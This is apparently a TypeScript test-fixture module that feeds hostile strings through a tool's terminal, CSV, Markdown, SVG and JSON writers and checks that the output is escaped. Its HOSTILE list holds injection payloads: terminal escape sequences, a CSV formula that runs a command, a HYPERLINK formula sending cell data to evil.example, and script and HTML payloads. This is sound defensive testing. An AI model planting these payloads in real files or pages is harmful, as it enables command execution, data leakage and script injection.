// Valid-but-hostile text (issue 17, findings 4–7): strings a user's dataset may hold in any free-text field, and a
// dataset that the schema accepts with them in every such field. The output tests feed each of them through every
// writer (terminal, CSV, Markdown, SVG, JSON) and every command.
import { readFileSync } from "node:fs";

/** Each hostile string, named by what it tries. */
export const HOSTILE: readonly (readonly [string, string])[] = [
  ["CSI colour", "Red \u001b[31mALERT\u001b[0m name"],
  ["CSI clear screen", "\u001b[2J\u001b[H cleared"],
  ["OSC window title", "\u001b]0;pwned\u0007 title"],
  ["OSC 8 hyperlink", "\u001b]8;;http://evil.example/\u001b\\click\u001b]8;;\u001b\\"],
  ["C1 CSI (U+009B)", "C1 \u009b31m red"],
  ["C1 OSC (U+009D)", "C1 \u009d0;pwned\u009c"],
  ["NUL", "nul\u0000byte"],
  ["BEL and backspace", "bell\u0007back\u0008\u0008space"],
  ["DEL", "del\u007fete"],
  ["vertical tab and form feed", "vt\u000bff\u000cend"],
  ["CR overwrite", "innocent\rEVIL overwrite"],
  ["LF", "line one\nline two"],
  ["CRLF", "line one\r\nline two"],
  ["U+2028 and U+2029", "line\u2028separator\u2029paragraph"],
  ["bidi override (U+202E)", "abc\u202edetfel txt.exe"],
  ["bidi embeddings (U+202A-202D)", "\u202aa\u202bb\u202cc\u202dd"],
  ["bidi isolates (U+2066-2069)", "\u2066isolate\u2067rtl\u2068first\u2069pop"],
  ["Arabic letter mark (U+061C)", "alm\u061cmark"],
  ["LRM and RLM (U+200E, U+200F)", "lrm\u200erlm\u200f"],
  ["BOM mid-string", "bom\ufeffinside"],
  ["lone high surrogate", "high \ud800 alone"],
  ["lone low surrogate", "low \udc00 alone"],
  ["U+FFFE and U+FFFF", "non\ufffechar\uffff"],
  ["formula =", '=HYPERLINK("http://evil.example/?x="&A1,"Click")'],
  ["formula +", "+1+cmd|' /C calc'!A0"],
  ["formula -", "-2+3"],
  ["formula @", "@SUM(A1:A9)"],
  ["formula after TAB", "\t=1+1"],
  ["formula after CR", "\r=1+1"],
  ["CSV quote and comma", 'a "quoted", comma'],
  ["Markdown pipe", "a | b | c"],
  ["Markdown heading after a line break", "name\n# Injected heading\n\n| a | b |"],
  ["raw HTML", '<img src=x onerror="alert(1)">'],
  ["script", "<script>alert(1)</script>"],
  ["Markdown link and image", "[click](javascript:alert(1)) ![x](http://evil.example/t.png)"],
  ["Markdown emphasis and code", "**bold** _em_ `code` ~~gone~~"],
  ["autolink", "<http://evil.example/>"],
  ["HTML entity", "&lt;b&gt; &amp; &#x1b;"],
  ["XML specials", "]]> <![CDATA[ x ]]> & < > \" '"],
  ["backslashes", "back\\slash \\u001b \\n"],
];

const ROOT = new URL("../../", import.meta.url);

type Json = Record<string, unknown>;

/**
 * The shipped dataset with hostile text in every free-text field: provider names, aliases and areas; owner names,
 * members and the wording a source used for them; inspection areas, chief inspectors, not-rated reasons and notes;
 * evidence publishers and the publishers and titles of the originals of copies. Provider `k` gets hostile string
 * `k` (cycling), so every string is some provider's name, and every table row carries one.
 */
export function hostileDataset(): { providers: Json[]; inspections: Json[]; owners: Json[] } {
  const read = (file: string): Json[] =>
    JSON.parse(readFileSync(new URL(`data/${file}`, ROOT), "utf8")) as Json[];
  const providers = read("providers.json");
  const inspections = read("inspections.json");
  const owners = read("owners.json");
  const text = (k: number): string => (HOSTILE[k % HOSTILE.length] as readonly [string, string])[1];
  const evidence = (list: Json[], k: number): Json[] =>
    list.map((e, j) => ({
      ...e,
      publisher: text(k + j),
      ...(e.copyOf === undefined
        ? {}
        : { copyOf: { ...(e.copyOf as Json), publisher: text(k + j + 1), title: text(k + j + 2) } }),
    }));
  let k = 0;
  for (const p of providers) {
    p.name = text(k);
    p.aliases = [text(k + 1)];
    p.areas = [text(k + 2), "Somewhere"];
    p.owners = (p.owners as Json[]).map((o, j) => ({ ...o, asNamed: text(k + 3 + j) }));
    p.evidence = evidence(p.evidence as Json[], k + 4);
    k += 1;
  }
  for (const o of owners) {
    o.name = text(k);
    if (o.notes !== undefined) o.notes = text(k + 1);
    o.evidence = evidence(o.evidence as Json[], k + 2);
    k += 1;
  }
  for (const i of inspections) {
    if (i.area !== undefined) i.area = text(k);
    if (i.owner !== undefined) i.ownerAsNamed = text(k + 1);
    if (i.chiefInspector !== undefined) i.chiefInspector = text(k + 2);
    if (i.overall === "not-rated") i.notRatedReason = text(k + 3);
    if (i.notes !== undefined) i.notes = text(k + 4);
    i.evidence = evidence(i.evidence as Json[], k + 5);
    k += 1;
  }
  return { providers, inspections, owners };
}

/**
 * Every character the terminal escaping keeps off a terminal: C0 but LF, DEL, C1, bidi controls, U+2028/2029, the
 * BOM, U+FFFE/U+FFFF and lone surrogates.
 */
export const TERMINAL_UNSAFE =
  // biome-ignore lint/suspicious/noControlCharactersInRegex: finding control characters is the point
  /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069\ufeff\ufffe\uffff]|[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/;

/** Characters XML 1.0 forbids, even as character references. */
export const XML_FORBIDDEN =
  // biome-ignore lint/suspicious/noControlCharactersInRegex: finding control characters is the point
  /[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff]|[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/;

/** Markdown characters that must never be active in a cell: after `\x` escapes and our `<br>` are removed. */
const MARKDOWN_ACTIVE = /[`*_[\]<>&|~$@#!]/;

/**
 * What is wrong with one row of a Markdown table we wrote, or "" when nothing: it must be `| a | b |` with
 * `columns` cells, and no cell may hold an active Markdown character that is not backslash-escaped.
 */
export function markdownRowProblem(line: string, columns: number): string {
  if (!line.startsWith("| ") || !line.endsWith(" |")) return `not a table row: ${JSON.stringify(line)}`;
  const bare = line.replace(/\\[\s\S]/g, "");
  const cells = bare.slice(2, -2).split(" | ");
  if (cells.length !== columns) return `${cells.length} cells, not ${columns}: ${JSON.stringify(line)}`;
  const active = cells.find((c) => MARKDOWN_ACTIVE.test(c.replaceAll("<br>", "")));
  return active === undefined ? "" : `an active Markdown character in ${JSON.stringify(active)}`;
}

/**
 * What is wrong with an SVG document as XML 1.0, or "" when nothing: a forbidden character, an `&` that starts no
 * entity, a `<` or `>` inside text or an attribute, or elements not closed in order. A strict parser's verdict is
 * test/outside/svg-xml.test.ts's (Chromium's DOMParser); this is the quick one.
 */
export function xmlProblem(svg: string): string {
  const forbidden = XML_FORBIDDEN.exec(svg);
  if (forbidden !== null) return `forbidden character U+${forbidden[0].charCodeAt(0).toString(16)}`;
  const amp = /&(?!(amp|lt|gt|quot|apos);)/.exec(svg);
  if (amp !== null)
    return `a bare & at ${amp.index}: ${JSON.stringify(svg.slice(amp.index, amp.index + 20))}`;
  const stack: string[] = [];
  let at = 0;
  for (const m of svg.matchAll(/<(\/?)([a-zA-Z][\w-]*)((?:\s+[\w:-]+="[^"<>]*")*)\s*(\/?)>/g)) {
    const between = svg.slice(at, m.index);
    if (/[<>]/.test(between)) return `a raw < or > in text: ${JSON.stringify(between.slice(0, 80))}`;
    at = m.index + m[0].length;
    const [, closing, name, , selfClosing] = m;
    if (selfClosing) continue;
    if (closing) {
      if (stack.pop() !== name) return `</${name}> closes nothing open`;
    } else stack.push(name as string);
  }
  if (/[<>]/.test(svg.slice(at))) return "a raw < or > after the last tag";
  return stack.length === 0 ? "" : `<${stack.at(-1)}> is never closed`;
}
